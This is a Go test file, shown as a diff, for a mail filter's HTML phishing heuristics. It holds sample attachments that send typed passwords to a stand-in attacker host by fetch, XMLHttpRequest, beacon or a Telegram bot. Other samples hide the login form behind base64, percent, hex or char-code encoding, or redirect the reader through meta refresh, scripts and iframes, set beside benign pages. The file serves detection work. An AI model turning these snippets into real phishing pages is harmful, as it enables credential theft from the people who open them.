@@ -1,0 +1,164 @@
+package heuristic
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"github.com/kensa-milter/kensa/message"
+)
+
+// pageAttach is an HTML attachment named name.
+func pageAttach(name, s string) *message.Message { return attach(htmlPart("2", s, named(name))) }
+
+// percentAll writes every byte of s as %XX, as kits feed unescape.
+func percentAll(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		b.WriteString("%" + strings.ToUpper(hex2(s[i])))
+	}
+	return b.String()
+}
+
+// hexEscapes writes every byte of s as \xXX inside a JavaScript string.
+func hexEscapes(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		b.WriteString(`\x` + hex2(s[i]))
+	}
+	return b.String()
+}
+
+func hex2(c byte) string { return string("0123456789abcdef"[c>>4]) + string("0123456789abcdef"[c&15]) }
+
+func charCodes(s string) string {
+	var parts []string
+	for _, r := range s {
+		parts = append(parts, itoa(int(r)))
+	}
+	return strings.Join(parts, ",")
+}
+
+const (
+	loginInputs = `<h2>Sign in</h2><input type="email" id="u" placeholder="Email"><input type="password" id="p"><button id="go">Sign in</button>`
+	fetchSend   = `<script>document.getElementById("go").onclick=function(){fetch("https://collect.attacker.example/c.php",{method:"POST",body:JSON.stringify({u:u.value,p:p.value})});};</script>`
+)
+
+// htmlPhishCases are TestChecks' samples for the HTML phishing checks:
+// each trick a kit uses, and the honest pages beside them.
+func htmlPhishCases() map[string][]sample {
+	written := `<form action="https://collect.attacker.example/owa"><input name=u><input type=password name=p></form>`
+	b64 := base64.StdEncoding.EncodeToString([]byte(written))
+	return map[string][]sample{
+		"html-credential-form": {
+			// 1. no form: the password leaves by script
+			{"fetch, no form", pageAttach("Fax_Document.html", loginInputs+fetchSend), "2"},
+			{"XMLHttpRequest", pageAttach("a.html", loginInputs+`<script>function s(){var x=new XMLHttpRequest();x.open("POST","https://collect.attacker.example/x");x.send("p="+p.value);}</script>`), "2"},
+			{"jQuery ajax", pageAttach("a.html", loginInputs+`<script>$("#go").click(function(){$.ajax({url:"https://collect.attacker.example/a",type:"POST",data:{p:$("#p").val()}});});</script>`), "2"},
+			{"jQuery post", pageAttach("a.html", loginInputs+`<script>$("#go").click(function(){$.post("https://collect.attacker.example/a",{p:$("#p").val()});});</script>`), "2"},
+			{"sendBeacon", pageAttach("a.html", loginInputs+`<script>go.onclick=()=>navigator.sendBeacon("https://collect.attacker.example/b",p.value)</script>`), "2"},
+			{"telegram bot", pageAttach("a.html", loginInputs+`<script>go.onclick=()=>{var t="https://api.telegram.org/bot123456:AAF-kensa/sendMessage?chat_id=1&text="+encodeURIComponent(p.value);new Image().src=t;}</script>`), "2"},
+			{"form action set by script", pageAttach("a.html", `<form id="f" action=""><input name=u><input type=password name=p><button>Go</button></form><script>document.getElementById("f").action = "https://collect.attacker.example/f";</script>`), "2"},
+			{"fetch URL in pieces", pageAttach("a.html", loginInputs+`<script>var h="https://coll"+"ect.attacker.example";go.onclick=function(){fetch(h+"/c",{method:"POST",body:p.value})}</script>`), "2"},
+			// 2. the page is written by script
+			{"document.write unescape", pageAttach("Remittance.htm", `<script>document.write(unescape('`+percentAll(written)+`'));</script>`), "2"},
+			{"document.write atob", pageAttach("a.html", `<script>document.write(atob("`+b64+`"))</script>`), "2"},
+			{"decodeURIComponent escape atob", pageAttach("a.html", `<script>var d="`+b64+`";document.write(decodeURIComponent(escape(window.atob(d))));</script>`), "2"},
+			{"innerHTML hex escapes", pageAttach("a.html", `<div id=x></div><script>document.getElementById("x").innerHTML = "`+hexEscapes(written)+`";</script>`), "2"},
+			{"char-code array", pageAttach("a.html", `<script>var c=[`+charCodes(written)+`];document.write(c.map(function(n){return String.fromCharCode(n)}).join(""));</script>`), "2"},
+			{"fromCharCode apply", pageAttach("a.html", `<script>document.body.innerHTML=String.fromCharCode(`+charCodes(written)+`)</script>`), "2"},
+			{"unescape percent-u", pageAttach("a.html", `<script>document.write(unescape("%u003Cform action=%u0022https://collect.attacker.example/u%u0022%3E%3Cinput type=password%3E%3C/form%3E"))</script>`), "2"},
+			{"two layers", pageAttach("a.html", `<script>document.write(unescape("`+percentAll(`<script>document.write(atob("`+b64+`"))</`+`script>`)+`"))</script>`), "2"},
+			{"written login, script sends", pageAttach("a.html", `<script>document.write(atob("`+base64.StdEncoding.EncodeToString([]byte(loginInputs))+`"))</script>`+fetchSend), "2"},
+			{"iframe srcdoc", pageAttach("a.html", `<iframe srcdoc="`+strings.ReplaceAll(written, `"`, "&quot;")+`" style="width:100%;height:100%"></iframe>`), "2"},
+			{"template literal", pageAttach("a.html", "<script>document.body.innerHTML = `"+written+"`;</script>"), "2"},
+			// 3. attribute tricks
+			{"duplicate type, password first", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=password type=text></form>`), "2"},
+			{"type PASSWORD", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=PASSWORD></form>`), "2"},
+			{"entity in type", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type="pass&#119;ord"></form>`), "2"},
+			{"entities in action", pageAttach("a.html", `<form action="&#104;ttps&#58;//collect.attacker.example/d"><input type=password></form>`), "2"},
+			{"text-security inline", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=text name=p style="-webkit-text-security: disc"></form>`), "2"},
+			{"text-security stylesheet", pageAttach("a.html", `<style>.pw{-webkit-text-security:circle}</style><form action="https://collect.attacker.example/d"><input class=pw name=p></form>`), "2"},
+			{"base href", pageAttach("a.html", `<base href="https://collect.attacker.example/kit/"><form action="post.php" method=post><input type=password name=p></form>`), "2"},
+			{"button formaction", pageAttach("a.html", `<form action=""><input type=password name=p><button formaction="https://collect.attacker.example/b">Go</button></form>`), "2"},
+			{"body duplicate type", body(`<form action="https://collect.attacker.example/p"><input type=password type=text></form>`), "1"},
+			// honest pages
+			{"duplicate type, text first", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=text type=password></form>`), ""},
+			{"spaced type is text", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=" password"></form>`), ""},
+			{"analytics fetch, no password", pageAttach("report.html", `<h1>Q3 report</h1><form action="https://reports.example.com/feedback"><input name=comment></form><script>fetch("https://stats.example.net/hit?p=report")</script>`), ""},
+			{"password page, nothing sends", pageAttach("a.html", `<input type=password id=p><script>p.focus()</script>`), ""},
+			{"written markup, no password", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<p>Thank you for your order</p>`)+`'))</script>`), ""},
+			{"body script does not run", body(`<form action=""><input type=password></form><script>fetch("https://collect.attacker.example/")</script>`), ""},
+			{"text-security none", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=text style="-webkit-text-security: none"></form>`), ""},
+		},
+		"html-redirect-attachment": {
+			{"meta refresh", pageAttach("Voicemail.html", `<html><head><meta http-equiv="refresh" content="0;url=https://landing.attacker.example/v"></head><body>Loading...</body></html>`), "2"},
+			{"meta refresh without url=", pageAttach("a.html", `<meta http-equiv=REFRESH content="1; https://landing.attacker.example/v">`), "2"},
+			{"meta refresh quoted, comma", pageAttach("a.html", `<meta http-equiv="Refresh" content="0, URL='https://landing.attacker.example/v'">`), "2"},
+			{"meta refresh in a zip", zipWith(htmlPart("2/a.zip/fax.html", `<meta http-equiv="refresh" content="0;url=https://landing.attacker.example/v">`, named("fax.html"))), "2/a.zip/fax.html"},
+			{"window.location", pageAttach("a.html", `<p>Please wait</p><script>window.location = "https://landing.attacker.example/?e=victim@example.com";</script>`), "2"},
+			{"location.replace", pageAttach("a.html", `<script>location.replace('https://landing.attacker.example/r')</script>`), "2"},
+			{"location.href in setTimeout, small page", pageAttach("a.html", `<script>setTimeout(function(){ window.location.href = "https://landing.attacker.example/t"; }, 800);</script>`), "2"},
+			{"location by bracket and atob", pageAttach("a.html", `<script>window['loc'+'ation']['href'] = atob("`+base64.StdEncoding.EncodeToString([]byte("https://landing.attacker.example/b"))+`");</script>`), "2"},
+			{"body onload", pageAttach("a.html", `<body onload="location.href='https://landing.attacker.example/o'">`+strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`</body>`), "2"},
+			{"written meta refresh", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<meta http-equiv="refresh" content="0;url=https://landing.attacker.example/w">`)+`'))</script>`), "2"},
+			{"full-window iframe", pageAttach("a.html", `<body style="margin:0"><iframe src="https://landing.attacker.example/f" width="100%" height="100%" frameborder=0></iframe></body>`), "2"},
+			{"iframe styled to fill", pageAttach("a.html", `<iframe src="https://landing.attacker.example/f" style="position:fixed; top:0; left:0; bottom:0; right:0; border:none"></iframe>`+strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)), "2"},
+			{"frame on an empty page", pageAttach("a.html", `<iframe src="https://landing.attacker.example/e" width="900" height="700"></iframe>`), "2"},
+			{"frameset", pageAttach("a.html", `<frameset rows="100%"><frame src="https://landing.attacker.example/fs"></frameset>`), "2"},
+			{"named function called", pageAttach("a.html", `<script>function go(u){ location.replace(u) }
+function start(){ go2(); }
+function go2(){ window.location.href = "https://landing.attacker.example/n"; }
+start();</script>`), "2"},
+			{"load listener", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<script>window.addEventListener("load", () => { location.assign("https://landing.attacker.example/l") })</script>`), "2"},
+			{"immediately called", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<script>(function(){ top.location = "https://landing.attacker.example/i" })();</script>`), "2"},
+			// honest pages
+			{"function only a click calls", pageAttach("a.html", `<button onclick="go()">Open</button><script>function go(){ location.href = "https://shop.example.com/" }</script>`), ""},
+			{"body meta refresh", body(`<meta http-equiv="refresh" content="0;url=https://landing.attacker.example/">`), ""},
+			{"refresh to itself", pageAttach("a.html", `<meta http-equiv="refresh" content="300">`), ""},
+			{"refresh, relative", pageAttach("a.html", `<meta http-equiv="refresh" content="0;url=page2.html">`), ""},
+			{"refresh after an hour", pageAttach("a.html", `<meta http-equiv="refresh" content="3600;url=https://www.example.com/">`), ""},
+			{"click handler on a long page", pageAttach("newsletter.html", strings.Repeat("<p>News of the month, with pictures and stories.</p>", 60)+`<button onclick="location.href='https://shop.example.com/'">Shop</button><script>function more(){ location.href = "https://shop.example.com/more"; }</script>`), ""},
+			{"video embed in a long page", pageAttach("newsletter.html", strings.Repeat("<p>News of the month, with pictures and stories.</p>", 60)+`<iframe src="https://video.example.net/embed/1" width="560" height="315"></iframe>`), ""},
+			{"links only", pageAttach("receipt.html", `<p>Receipt</p><a href="https://shop.example.com/orders/1">Your order</a>`), ""},
+			{"mailto", pageAttach("a.html", `<script>location.href = "mailto:help@example.com"</script>`), ""},
+		},
+	}
+}
+
+func TestRefreshTarget(t *testing.T) {
+	// As Chromium 1xx on Debian 12 navigated (or not) from a file:// page.
+	for _, c := range []struct{ content, want string }{
+		{"0;url=https://a.example/", "https://a.example/"},
+		{"0; URL='https://a.example/'", "https://a.example/"},
+		{"0,url=https://a.example/", "https://a.example/"},
+		{"0;https://a.example/", "https://a.example/"},
+		{"0 https://a.example/", "https://a.example/"},
+		{"1.5;url=https://a.example/", "https://a.example/"},
+		{"-1;url=https://a.example/", ""},
+		{"0x;url=https://a.example/", ""},
+		{"5", ""},
+	} {
+		if got := refreshTarget(c.content); got != c.want {
+			t.Errorf("refreshTarget(%q) = %q, want %q", c.content, got, c.want)
+		}
+	}
+}
+
+func TestDecodeJS(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{`unescape("%3Cb%3E%u0041")`, `"<b>A"`},
+		{`decodeURIComponent(escape(atob("w6k8Yj4=")))`, `"é<b>"`},
+		{`atob('PGI+')`, `"<b>"`},
+		{`decodeURIComponent("%E2%82%AC")`, `"€"`},
+		{`decodeURIComponent("%E2%82")`, `decodeURIComponent("%E2%82")`}, // throws in a browser
+		{`atob("!!")`, `atob("!!")`},
+	} {
+		if got := decodeJS(c.in); got != c.want {
+			t.Errorf("decodeJS(%s) = %s, want %s", c.in, got, c.want)
+		}
+	}
+	if got := writtenMarkup(`x = "a < b"; document.write("<p>" + y + "</p>")`); got != "<p></p>" {
+		t.Errorf("writtenMarkup = %q", got)
+	}
+}
